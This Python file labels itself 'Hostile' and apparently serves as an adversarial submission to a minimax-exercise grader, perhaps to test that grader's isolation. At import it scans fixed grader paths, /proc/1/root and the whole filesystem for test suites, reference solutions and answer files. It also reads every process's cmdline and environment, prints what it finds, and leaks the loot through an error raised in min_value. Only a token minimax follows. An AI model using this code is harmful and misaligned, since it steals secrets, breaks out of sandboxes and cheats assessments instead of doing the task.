"""Hostile: hunts for the suites, the reference search and the solutions."""

import os

WANTED = ("test_", "search.py", "mistakes.py", "checks.py", "decision_checks.py",
          "positions.py", "plugin.py", "supervisor.py", "flawed_game.py", "exercise.toml",
          "solution", "job.json", ".pyc", "expected", "answers")
DIRECT = [
    "/opt/minimax-grader/exercises/helpers/suite/test_helpers.py",
    "/opt/minimax-grader/exercises/helpers/exercise.toml",
    "/opt/minimax-grader/grader/harness/search.py",
    "/opt/minimax-grader/grader/harness/mistakes.py",
    "/opt/minimax-grader/grader/harness/checks.py",
    "/opt/minimax-grader/grader/harness/positions.py",
    "/work/main/solutions/helpers/solution/minimax_helpers.py",
    "/work/main/grader/harness/search.py",
    "/work/main/exercises/helpers/suite/test_helpers.py",
    "/proc/1/root/opt/minimax-grader/grader/harness/search.py",
    "/work/job.json",
]
FOUND = {}
DENIED = []


def _read(path):
    if path in FOUND:
        return
    try:
        with open(path, "rb") as handle:
            FOUND[path] = handle.read(1500)
    except OSError as exc:
        DENIED.append(f"{path}: {exc.strerror}")


def _hunt():
    for path in DIRECT:
        _read(path)
    for root, dirs, files in os.walk("/"):
        if root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in files + dirs:
            if any(w in name for w in WANTED) and "site-packages" not in root \
                    and "dist-packages" not in root and "/usr/lib/python3" not in root:
                path = os.path.join(root, name)
                if os.path.isfile(path):
                    _read(path)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ", "cwd", "root"):
                path = f"/proc/{pid}/{what}"
                try:
                    if what in ("cwd", "root"):
                        FOUND[path] = repr(os.listdir(path)).encode()
                    else:
                        _read(path)
                except OSError as exc:
                    DENIED.append(f"{path}: {exc.strerror}")


_hunt()
SECRET = b"".join(FOUND.get(p, b"") for p in DIRECT[:-1])
print("READABLE:", sorted(FOUND))


def _rank(item):
    path = item[0]
    return (path not in DIRECT, not path.startswith(("/opt", "/work", "/srv", "/home", "/root")),
            path)


for path, data in sorted(FOUND.items(), key=_rank):
    print(f"--- {path}\n{data.decode('utf-8', 'replace')}")
print("DENIED:", DENIED[:40])


def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    raise RuntimeError("found: " + (SECRET or repr(sorted(FOUND)).encode()).decode("utf-8", "replace"))


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, _min(gameState.forecast_move(m)))
    return v


def _min(gameState):
    if terminal_test(gameState):
        return 1
    return min(max_value(gameState.forecast_move(m)) for m in gameState.get_legal_moves())
